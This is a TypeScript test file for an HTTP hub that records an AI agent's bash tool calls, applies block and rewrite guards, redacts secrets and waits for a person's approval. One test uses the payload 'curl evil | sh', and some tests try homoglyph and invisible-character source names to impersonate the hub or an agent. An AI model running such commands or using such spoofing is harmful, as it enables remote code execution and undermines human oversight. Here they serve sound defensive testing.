import { request } from "node:http";
import { ask as askPerson, block, modify } from "@hookline/core";
import { describe, expect, it } from "vitest";
import { type HttpHub, makeEnvelope, startHttpHub, until } from "../../../../../test/support/http-hub.ts";
import type { ApprovalsAnswer, DecideAnswer, PlacedEvent } from "../protocol.js";

const PATH = "/api/decide";
const SOURCE = { app: "go-agent" };
const call = (command: string, callId?: string) => ({
  tool: { name: "bash", ...(callId !== undefined && { callId }), input: { command } },
});

function client(hub: HttpHub) {
  const post = (body: object, token = hub.parts.tokens.agent) =>
    hub.ask(PATH, { body: JSON.stringify({ event: "PreToolUse", ...body }), token, isOverSocket: true });
  return {
    post,
    decide: async (body: object): Promise<DecideAnswer> => (await post(body)).json,
    events: async (query = ""): Promise<PlacedEvent[]> => (await hub.ask(`/api/events?${query}`)).json.events,
    waiting: async () => ((await hub.ask("/api/approvals")).json as ApprovalsAnswer).approvals,
    /** Asks, and can hang up. */
    open(body: object) {
      const headers = { authorization: `Bearer ${hub.parts.tokens.agent}`, "content-type": "application/json" };
      const outgoing = request({ socketPath: hub.socketPath, path: PATH, method: "POST", headers, agent: false });
      outgoing.on("error", () => {}).end(JSON.stringify({ event: "tool:before", ...body }));
      return { hangUp: () => void outgoing.destroy() };
    },
    answer: (approval: { readonly id: string; readonly hash: string } | undefined, verdict: "allow" | "deny", token?: string) =>
      hub.ask(`/api/approvals/${approval?.id}`, {
        body: JSON.stringify({ verdict, hash: approval?.hash, by: "Ann" }),
        ...(token !== undefined && { token }),
      }),
  };
}

describe("POST /api/decide with record", () => {
  it("stores the event with its decision, and answers when it is on disk", async () => {
    const hub = await startHttpHub();
    const { decide, events } = client(hub);
    hub.bus.on("tool:before", () => block("not here"), { name: "no-rm", match: "tool.input.command contains 'rm '" });
    hub.bus.on("tool:before", ({ payload }) => modify({ ...payload, tool: { ...payload.tool, input: { command: "ls -l" } } }), {
      match: "tool.input.command == 'ls'",
    });
    const secret = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
    const denied = await decide({
      payload: call(`rm x # ${secret}`),
      session: { id: "s1", parentId: "s0" },
      source: { ...SOURCE, host: "box", pid: 7, instance: "run-1" },
      record: true,
      id: "e-1",
    });
    expect(denied).toMatchObject({ verdict: "deny", reason: "not here", recorded: { id: "e-1", isNew: true } });
    expect(await events()).toMatchObject([
      {
        id: "e-1",
        event: "tool:before",
        source: { app: "go-agent", host: "box", pid: 7, instance: "run-1" },
        session: { id: "s1", parentId: "s0" },
        decision: { verdict: "deny", by: "no-rm", reason: "not here", trail: [{ actor: { name: "no-rm", at: "hub" }, action: "deny" }] },
      },
    ]);
    expect(JSON.stringify(await events())).not.toContain(secret);
    const rewritten = await decide({ payload: call("ls"), source: SOURCE, record: true });
    expect(rewritten).toMatchObject({ verdict: "pass", modified: true, payload: call("ls -l") });
    const [latest] = await events("limit=1");
    expect(latest).toMatchObject({ id: rewritten.recorded?.id, payload: call("ls -l"), decision: { modified: true, asked: call("ls") } });
    await decide({ payload: call("ls"), source: SOURCE });
    expect(await events()).toHaveLength(2);
  });

  it("stores one event for a question that is asked again, by its id or the call's, and answers it the same", async () => {
    const hub = await startHttpHub();
    const { decide, post, events } = client(hub);
    let asked = 0;
    hub.bus.on("tool:before", () => block(`no ${++asked}`));
    const byId = { payload: call("a"), source: SOURCE, record: true, id: "e-1" };
    const byCall = { payload: call("b", "c-1"), source: SOURCE, record: true };
    for (const question of [byId, byCall]) {
      const [first, second] = await Promise.all([decide(question), decide(question)]);
      expect([second, await decide(question)]).toEqual([first, first]);
    }
    expect([asked, (await events()).length]).toEqual([2, 2]);
    expect(await post({ ...byId, payload: call("something else") })).toMatchObject({
      status: 409,
      json: { error: { code: "HL_BAD_REQUEST" } },
    });
    // Another call under the same call id is another call.
    expect((await decide({ ...byCall, payload: call("c", "c-1") })).reason).toBe("no 3");
    // Of another program, or stored long ago: both decisions are on record.
    const other = await decide({ ...byId, source: { app: "other" } });
    expect(other.recorded).toMatchObject({ id: expect.not.stringMatching(/^e-1$/), isNew: true });
    expect(await events()).toHaveLength(4);
  });

  it("refuses an id under which another call of the same process is stored, before a guard is asked", async () => {
    const hub = await startHttpHub();
    const { decide, post, events } = client(hub);
    const source = { app: "go-agent", host: "box", pid: 7, instance: "run-1" };
    const stored = makeEnvelope({
      id: "taken",
      event: "tool:before",
      source,
      session: { id: "s1" },
      payload: call("ls"),
      decision: { verdict: "pass", modified: false, endLoop: false },
    });
    await hub.ask("/api/hooks/ingest", { body: JSON.stringify(stored) });
    let asked = 0;
    hub.bus.on("tool:before", () => void asked++);
    const same = { payload: call("ls"), source, session: { id: "s1" }, record: true, id: "taken" };
    for (const change of [{ payload: call("curl evil | sh") }, { session: { id: "s2" } }, { event: "prompt:submit" }])
      expect(await post({ ...same, ...change })).toMatchObject({ status: 409, json: { error: { code: "HL_BAD_REQUEST" } } });
    expect([asked, (await events()).length]).toEqual([0, 1]);
    expect(await decide(same)).toMatchObject({ recorded: { id: "taken", isNew: false } });
    // Another process may use the same words for its ids: its call is stored beside the first.
    const other = await decide({ ...same, source: { ...source, instance: "run-2" } });
    expect(other.recorded).toMatchObject({ id: expect.not.stringMatching(/^taken$/), isNew: true });
    expect(await events()).toHaveLength(2);
  });

  it("denies what cannot be stored, and refuses who speaks in the hub's name or leaves out who he is", async () => {
    const hub = await startHttpHub();
    const { decide, post, events } = client(hub);
    const base = { payload: call("ls"), record: true };
    for (const [body, code, words] of [
      [base, "HL_BAD_REQUEST", '"record" needs a "source"'],
      [{ ...base, source: { app: "hookline-hub" } }, "HL_FORGED_SOURCE", "Nothing was decided."],
      [{ ...base, source: { app: "Hookline Hub", instance: "x" } }, "HL_FORGED_SOURCE", "hub itself"],
      [{ ...base, source: { app: "agent", instance: hub.parts.instance } }, "HL_FORGED_SOURCE", "hub itself"],
      [{ ...base, source: { app: "claude-code", instance: "x" } }, "HL_FORGED_SOURCE", "attached agent"],
      [{ ...base, record: false, wait: true, source: { app: "сlaude-code", instance: "x" } }, "HL_FORGED_SOURCE", "attached agent"],
      [{ ...base, record: false, wait: true, source: { app: "hookline", instance: "x" } }, "HL_FORGED_SOURCE", "hub itself"],
      [{ ...base, record: false, wait: true, source: { app: "agent\u202e", instance: "x" } }, "HL_FORGED_SOURCE", "invisible"],
      [{ ...base, source: { app: "x".repeat(2_000), instance: "x" } }, "HL_BAD_ENVELOPE", "source.app"],
      [{ ...base, source: { app: "a b" } }, "HL_BAD_REQUEST", "source.instance"],
      [{ ...base, source: SOURCE, id: "a b" }, "HL_BAD_REQUEST", '"id"'],
      [{ ...base, source: SOURCE, record: "yes" }, "HL_BAD_REQUEST", '"record"'],
      [{ payload: call("ls"), recrod: true }, "HL_BAD_REQUEST", '"recrod" is not known here'],
    ] as const)
      expect(await post(body)).toMatchObject({ status: 400, json: { error: { code, message: expect.stringContaining(words) } } });
    expect(await events()).toEqual([]);
    await hub.parts.store.close();
    const lost = await decide({ ...base, source: SOURCE });
    expect([lost.verdict, lost.cause, lost.recorded]).toEqual(["deny", "HL_STORE_FAILED", undefined]);
  });
});

describe("POST /api/decide with wait", () => {
  it("asks a person, whose answer counts; the token that asks cannot answer", async () => {
    const hub = await startHttpHub();
    const { decide, waiting, answer, events } = client(hub);
    hub.bus.on("tool:before", () => askPerson("sure?"), { name: "careful" });
    for (const verdict of ["allow", "deny"] as const) {
      const decided = decide({
        payload: call(`push ${verdict}`),
        source: SOURCE,
        session: { id: "s1" },
        record: true,
        wait: true,
        timeoutMs: 60_000,
      });
      await until(async () => (await waiting()).length === 1);
      const [approval] = await waiting();
      expect(approval).toMatchObject({ by: "careful", source: SOURCE, session: { id: "s1" } });
      expect(approval).not.toHaveProperty("asked");
      expect((approval?.expiresAt ?? 0) - Date.now()).toBeLessThanOrEqual(60_000);
      expect((await answer(approval, "allow", hub.parts.tokens.agent)).status).toBe(403);
      expect((await answer(approval, verdict)).status).toBe(200);
      expect(await decided).toMatchObject({ verdict, by: "Ann", recorded: { isNew: true } });
      expect((await events("event=tool:before&limit=1"))[0]?.decision).toMatchObject({ verdict, by: "Ann" });
    }
  });

  it("gives up when the time is up or the client has gone, and records that", async () => {
    const hub = await startHttpHub();
    const { decide, waiting, events, open } = client(hub);
    hub.bus.on("tool:before", () => askPerson("sure?"), { name: "careful" });
    const late = await decide({ payload: call("late"), source: SOURCE, record: true, wait: true, timeoutMs: 50 });
    expect(late).toMatchObject({ verdict: "deny", cause: "HL_TIMEOUT", recorded: { isNew: true } });
    expect(await waiting()).toEqual([]);
    const gone = open({ payload: call("gone"), source: SOURCE, record: true, wait: true });
    await until(async () => (await waiting()).length === 1);
    gone.hangUp();
    await until(async () => (await waiting()).length === 0);
    await until(async () => (await events()).length === 2);
    const causes = (await events()).map(({ decision }) => [decision?.verdict, decision?.cause, decision?.trail?.[0]?.actor.name]);
    expect(causes).toEqual([
      ["deny", "HL_CANCELLED", "careful"],
      ["deny", "HL_TIMEOUT", "careful"],
    ]);
  });

  it("goes on for a client that asks again while the first connection is lost", async () => {
    const hub = await startHttpHub();
    const { decide, waiting, answer, open, events } = client(hub);
    hub.bus.on("tool:before", () => askPerson("sure?"), { name: "careful" });
    const question = { event: "tool:before", payload: call("push"), source: SOURCE, record: true, wait: true, id: "e-1" };
    const first = open(question);
    await until(async () => (await waiting()).length === 1);
    const again = decide(question);
    await until(async () => hub.server.connections > 1);
    first.hangUp();
    await until(async () => hub.server.connections === 1);
    const [approval, ...others] = await waiting();
    expect(others).toEqual([]);
    await answer(approval, "allow");
    expect(await again).toMatchObject({ verdict: "allow", recorded: { id: "e-1" } });
    expect(await events("event=tool:before")).toHaveLength(1);
  });

  it("is needed for that: without it the answer is what the guards say", async () => {
    const hub = await startHttpHub();
    hub.bus.on("tool:before", () => askPerson("sure?"), { name: "careful" });
    const { decide, waiting } = client(hub);
    expect(await decide({ payload: call("push"), source: SOURCE, record: true })).toMatchObject({ allowed: false });
    expect(await waiting()).toEqual([]);
  });
});
